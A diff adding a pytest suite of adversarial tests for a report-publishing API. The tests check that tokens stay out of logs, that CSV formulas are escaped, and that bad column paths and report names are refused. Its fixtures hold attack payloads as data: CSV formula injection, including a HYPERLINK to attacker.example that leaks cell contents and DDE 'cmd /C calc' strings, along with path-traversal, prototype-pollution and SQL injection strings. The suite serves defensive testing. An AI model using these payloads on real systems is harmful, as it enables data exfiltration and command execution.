@@ -1,0 +1,212 @@
+"""Published reports under attack: leaked tokens, formulas in cells, paths that reach out.
+
+A real server over HTTP (SQLite), in this process, so every log record it writes
+(its access log, its SQL with parameters, errors) can be read back.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import logging
+import uuid
+from collections.abc import Iterator
+from dataclasses import dataclass
+from typing import Any
+
+import httpx
+import pytest
+
+from api.app import create_app
+from api.db import models as m
+from api.settings import load_settings
+from tests.support.databases import execute_db, query_db
+from tests.support.graphql import GraphQLClient, add_principal, new_secret
+from tests.support.server import serve_asgi
+
+APP = "ADV"
+# Release names a spreadsheet would run as formulas if written as they are.
+FORMULAS = ['=HYPERLINK("http://attacker.example/?d="&A1,"Click")',
+            "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C notepad'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
+            "=cmd|' /C calc'!A0"]
+QUERY = """query($app: String) { releases(filter: {application: $app}, first: 50) {
+  nodes { key name version } } }"""
+CREATE = """mutation($input: ReportInput!) { createReport(input: $input) {
+  id slug csvUrl jsonUrl } }"""
+PUBLISH = """mutation($id: ID!) { publishReport(id: $id) { secret } }"""
+# The test's own HTTP client logs the URLs it requests; only the server's records count.
+CLIENT_LOGGERS = ("httpx", "httpcore")
+
+
+class Recorder(logging.Handler):
+    def __init__(self) -> None:
+        super().__init__(level=logging.DEBUG)
+        self.lines: list[str] = []
+
+    def emit(self, record: logging.LogRecord) -> None:
+        if record.name.startswith(CLIENT_LOGGERS):
+            return
+        text = record.getMessage()
+        if record.exc_info:
+            text += logging.Formatter().formatException(record.exc_info)
+        self.lines.append(f"{record.name}: {text}")
+
+
+@dataclass
+class Site:
+    url: str
+    database_url: str
+    owner: GraphQLClient
+    owner_api_token: str
+    log: Recorder
+
+    def report(self, **given: Any) -> dict[str, Any]:
+        report_input = {"name": f"Adversarial {uuid.uuid4().hex[:8]}", "query": QUERY,
+                        "variables": {"app": APP}, "rowsPath": "releases.nodes",
+                        "columns": [{"path": "key", "header": "Key"},
+                                    {"path": "name", "header": "=SUM(A1:A9)"},
+                                    {"path": "version", "header": "Version"}]} | given
+        created: dict[str, Any] = self.owner.data(CREATE, {"input": report_input})[
+            "createReport"]
+        return created
+
+    def publish(self, report_id: str) -> str:
+        secret: str = self.owner.data(PUBLISH, {"id": report_id})["publishReport"]["secret"]
+        return secret
+
+
+@pytest.fixture(autouse=True)
+def no_faults() -> None:
+    """No upstream sandboxes here: reports read Heatshield's own releases."""
+
+
+@pytest.fixture(scope="module")
+def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
+    url = f"sqlite+aiosqlite:///{tmp_path_factory.mktemp('reports') / 'reports.db'}"
+    token = new_secret()
+
+    async def owner(sessions: Any) -> None:
+        await add_principal(sessions, username="adversarial-owner",
+                            role=m.Role.RELEASE_MANAGER, token=token)
+
+    recorder = Recorder()
+    root = logging.getLogger()
+    old_level = root.level
+    root.addHandler(recorder)
+    root.setLevel(logging.DEBUG)
+    # Echo writes every SQL statement with its parameters: the token's lookup among them.
+    settings = load_settings(None, database={"url": url, "echo": True},
+                             limits={"rate_limit_burst": 1000, "rate_limit_per_minute": 6000})
+    try:
+        with serve_asgi(create_app(settings, startup=[owner])) as base_url:
+            client = GraphQLClient(base_url, token=token)
+            client.data("""mutation { createApplication(input: {key: "ADV",
+                           name: "Adversarial"}) { key } }""")
+            for number, name in enumerate(FORMULAS, start=1):
+                client.data("""mutation($i: CreateReleaseInput!) { createRelease(input: $i)
+                    { key } }""", {"i": {"key": f"ADV-{number}", "name": name,
+                                         "type": "PROJECT", "applicationKeys": [APP]}})
+            try:
+                yield Site(base_url, url, client, token, recorder)
+            finally:
+                client.close()
+    finally:
+        root.removeHandler(recorder)
+        root.setLevel(old_level)
+
+
+def test_a_token_in_the_query_string_reaches_no_log(site: Site) -> None:
+    report, other = site.report(), site.report()
+    secret, others = site.publish(report["id"]), site.publish(other["id"])
+    wrong = "hsr_" + "W" * 43
+    before = len(site.log.lines)
+    assert httpx.get(report["csvUrl"], params={"token": secret}).status_code == 200
+    assert httpx.get(report["jsonUrl"], params={"token": others}).status_code == 403
+    assert httpx.get(report["csvUrl"], params={"token": wrong}).status_code == 401
+    assert httpx.get(report["csvUrl"], headers={"Authorization": f"Bearer {secret}"}
+                     ).status_code == 200
+    written = site.log.lines[before:]
+    # The server did log these requests (its access lines, its SQL): just not the tokens.
+    assert sum(f"/reports/{report['slug']}." in line for line in written) >= 4
+    assert any("report_tokens" in line for line in written)
+    for token in (secret, others, wrong):
+        assert [line for line in written if token in line or token[4:] in line] == []
+
+
+def test_cells_that_would_run_as_formulas_are_written_as_text(site: Site) -> None:
+    report = site.report()
+    secret = site.publish(report["id"])
+    text = httpx.get(report["csvUrl"], headers={"Authorization": f"Bearer {secret}"}).text
+    table = list(csv.reader(io.StringIO(text, newline="")))
+    assert table[0] == ["Key", "'=SUM(A1:A9)", "Version"]
+    names = {row[0]: row[1] for row in table[1:]}
+    assert names == {f"ADV-{n}": "'" + name for n, name in enumerate(FORMULAS, start=1)}
+    assert {row[2] for row in table[1:]} == {"1"}  # numbers stay numbers
+    # JSON carries the values as they are: a JSON reader runs no formula.
+    rows = httpx.get(report["jsonUrl"], headers={"Authorization": f"Bearer {secret}"}
+                     ).json()["rows"]
+    assert sorted(r["=SUM(A1:A9)"] for r in rows) == sorted(FORMULAS)
+
+
+@pytest.mark.parametrize("path", [
+    "__proto__", "constructor.prototype", "../../etc/passwd", "key..name", "key.", ".key",
+    "a" * 5000, "key;DROP TABLE reports", "name\nX", ".".join(["key"] * 50), "__typename",
+    "owner.passwordHash", "applications.key", "name.length", "ke y", "kéy"])
+def test_a_column_path_can_name_only_what_the_query_selects(site: Site, path: str) -> None:
+    before = query_db(site.database_url, "SELECT count(*) FROM reports")
+    error = site.owner.error(CREATE, {"input": {
+        "name": "Reaching out", "query": QUERY, "variables": {"app": APP},
+        "rowsPath": "releases.nodes", "columns": [{"path": path}]}})
+    assert error["extensions"]["code"] == "BAD_USER_INPUT"
+    assert error["extensions"]["field"] == "input.columns[0].path"
+    assert len(error["message"]) < 400
+    assert query_db(site.database_url, "SELECT count(*) FROM reports") == before
+
+
+def test_a_report_has_a_bounded_number_of_columns(site: Site) -> None:
+    error = site.owner.error(CREATE, {"input": {
+        "name": "Wide", "query": QUERY, "variables": {"app": APP},
+        "rowsPath": "releases.nodes", "columns": [{"path": "key"}] * 101}})
+    assert error["extensions"]["field"] == "input.columns"
+    assert "at most 100" in error["message"]
+
+
+def test_a_report_token_and_an_api_token_never_stand_in_for_each_other(site: Site) -> None:
+    report = site.report()
+    secret = site.publish(report["id"])
+    api = httpx.get(report["csvUrl"], headers={"Authorization": f"Bearer {site.owner_api_token}"})
+    assert api.status_code == 401
+    graphql = httpx.post(f"{site.url}/graphql", json={"query": "{ reports { slug } }"},
+                         headers={"Authorization": f"Bearer {secret}"})
+    assert graphql.status_code == 401
+
+
+@pytest.mark.parametrize("name", ["%00.csv", "1%20OR%201=1.csv", "%2E%2E.csv",
+                                  "x" * 3000 + ".json"])
+def test_a_strange_report_name_opens_nothing(site: Site, name: str) -> None:
+    secret = site.publish(site.report()["id"])
+    response = httpx.get(f"{site.url}/reports/{name}",
+                         headers={"Authorization": f"Bearer {secret}"})
+    assert response.status_code == 403
+    assert response.json()["errors"][0]["extensions"]["code"] == "FORBIDDEN"
+
+
+def test_a_name_that_climbs_out_of_reports_reaches_no_report(site: Site) -> None:
+    report = site.report()
+    secret = site.publish(report["id"])
+    response = httpx.get(f"{site.url}/reports/..%2F{report['slug']}.csv",
+                         headers={"Authorization": f"Bearer {secret}"})
+    assert response.status_code != 200 and "ADV-1" not in response.text
+
+
+def test_an_owner_disabled_behind_the_servers_back_reads_nothing(site: Site) -> None:
+    report = site.report()
+    secret = site.publish(report["id"])
+    execute_db(site.database_url,
+               "UPDATE users SET disabled = 1 WHERE username = 'adversarial-owner'")
+    try:
+        response = httpx.get(report["csvUrl"], headers={"Authorization": f"Bearer {secret}"})
+        assert response.status_code == 403 and "ADV-1" not in response.text
+    finally:
+        execute_db(site.database_url,
+                   "UPDATE users SET disabled = 0 WHERE username = 'adversarial-owner'")
